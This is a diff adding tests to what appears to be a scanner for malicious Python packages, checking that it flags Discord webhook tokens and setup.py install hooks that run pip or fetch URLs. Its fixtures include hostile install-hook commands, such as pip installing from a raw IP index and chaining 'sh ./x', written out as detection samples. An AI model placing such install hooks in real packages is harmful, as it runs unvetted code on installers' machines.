@@ -520,6 +520,46 @@ def test_chat_urls_that_name_no_channel_are_not_drop_hosts() -> None:
     assert verdict(_lib(code))[0] == "clean"
 
 
+def test_a_client_base_url_with_a_run_time_version_is_no_channel_and_a_split_token_still_is() -> None:
+    """A Discord client library's ``f"https://discord.com/api/v{_API_VERSION}"`` in a class body (nextcord)
+    was a webhook contacted on import; a webhook whose version is a field keeps its concrete token."""
+    base = "class HTTP:\n    BASE = f'https://discord.com/api/v{_API_VERSION}'\n"
+    assert verdict(_lib(base))[0] == "clean"
+    split = ("import requests\n\ndef send(v, data):\n    requests.post(f'https://discord.com/api/v{v}/webhooks/"
+             "123456789012345678/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789', json=data)\n")
+    tokens = [s for s in facts_of(_lib(split)).signals if s.kind == "endpoint.bot-token"]
+    assert tokens and tokens[0].detail["category"] == "discord-webhook", tokens
+
+
+def test_pip_installing_well_known_packages_at_install_is_a_build_step() -> None:
+    """setup.py running ``pip install cffi`` before its CFFI build (winevt) was an import-process finding
+    (high); a name outside the most downloaded, an index option or a URL keeps it one."""
+    def setup(command: str) -> str:
+        return ("import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n"
+                f"class Install(install):\n    def run(self):\n        os.system({command!r})\n"
+                "        install.run(self)\n\nsetup(name='helperlib', cmdclass={'install': Install})\n")
+    assert verdict(sdist("helperlib", "0.1", {"setup.py": setup("pip install cffi")}))[0] == "clean"
+    assert verdict(sdist("helperlib", "0.1", {"setup.py": setup("python3 -m pip install -U requests numpy")}))[0] \
+        == "clean"
+    for command in ("pip install helper-core-runtime", "pip install cffi -i http://45.61.136.12/simple",
+                    "pip install git+https://example.org/x.git", "pip install cffi && sh ./x"):
+        result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup(command)}))
+        assert result != "clean" and "package.import-process:high" in findings, (command, findings)
+
+
+def test_a_command_built_in_a_local_variable_is_read() -> None:
+    """``req_cmd = "python3 -c ..." + target_url + "..."; os.system(req_cmd)`` at install: the command is read
+    through the local assignments and the concatenation, so its URL makes it suspicious."""
+    setup = ("import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n"
+             "class Install(install):\n    def run(self):\n        target_url = 'https://example.net/test'\n"
+             "        req_cmd = 'python3 -c \"import requests;requests.get(\\'' + target_url + '\\')\"'\n"
+             "        os.system(req_cmd)\n        install.run(self)\n\n"
+             "setup(name='helperlib', cmdclass={'install': Install})\n")
+    procs = [s for s in facts_of(sdist("helperlib", "0.1", {"setup.py": setup})).signals if s.kind == "exec.process"]
+    assert procs and "https://example.net/test" in procs[0].detail["command"], procs
+    assert procs[0].detail.get("suspicious_command") is True
+
+
 def test_main_blocks_run_as_programs_not_on_import() -> None:
     """A module's ``if __name__ == "__main__":`` block (and an ``elif __name__ == "__channelexec__":`` branch,
     execnet's remote entry) runs when the file is run as a program; a socket server started only there is
